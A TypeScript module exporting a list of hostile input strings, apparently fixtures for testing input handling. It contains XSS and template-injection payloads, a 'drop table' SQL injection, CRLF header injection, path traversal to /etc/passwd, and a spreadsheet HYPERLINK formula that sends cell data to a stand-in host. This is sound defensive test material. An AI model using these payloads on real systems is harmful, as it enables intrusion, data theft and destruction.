/** Texts that mean something to whatever stands behind a field and isn't careful, by what they are aimed at. */
export const hostileTexts = {
	script: '<script>globalThis.owned=1</script>',
	attribute: '"\'><img src=x onerror="globalThis.owned=1">',
	svelte: '{@html "<img src=x onerror=globalThis.owned=1>"} ${globalThis.owned=1} {{7*7}}',
	address: 'javascript:globalThis.owned=1',
	sql: "'; drop table people; -- \\' or 1=1",
	null: 'before\u0000after',
	loneSurrogate: 'half \ud800 a pair',
	reversed: '\u202egnp.exe\u202c \u2066isolated\u2069 \u200f',
	header: 'Aino\r\nBcc: thief@example.net\r\nSet-Cookie: owned=1',
	path: '../../../../etc/passwd',
	encodedPath: '..%2f..%2f%00',
	formula: '=HYPERLINK("https://thief.example/?"&A1,"here")',
	percent: '%',
	number: '1e309',
	prototype: '__proto__',
	day: '0000-00-00',
	long: 'ä'.repeat(5000)
} as const;
export type Hostile = keyof typeof hostileTexts;
